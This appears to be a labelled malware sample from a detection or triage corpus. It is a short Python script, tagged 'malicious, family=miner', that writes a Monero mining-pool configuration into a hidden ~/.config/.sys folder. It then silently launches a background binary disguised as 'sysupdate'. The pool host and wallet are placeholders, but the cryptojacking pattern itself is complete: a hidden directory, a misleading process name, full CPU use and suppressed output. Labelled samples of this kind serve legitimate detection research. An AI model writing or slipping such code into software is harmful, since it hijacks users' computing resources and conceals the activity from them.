# label: malicious family=miner techniques=T1059.004,T1496,T1564.001 lines=5-9,18
import json, os
cfg = {
    "autosave": True,
    "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 100},
    "donate-level": 0,
    "pools": [{
        "url": "stratum+ssl://xmr.pool.bad-host.example:443",
        "user": "49FAKEpytriageCORPUSwalletxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "pass": "worker1",
        "keepalive": True,
        "tls": True,
    }],
}
os.makedirs(os.path.expanduser("~/.config/.sys"), exist_ok=True)
with open(os.path.expanduser("~/.config/.sys/config.json"), "w") as f:
    json.dump(cfg, f)
os.system("nohup ~/.config/.sys/sysupdate -c ~/.config/.sys/config.json >/dev/null 2>&1 &")
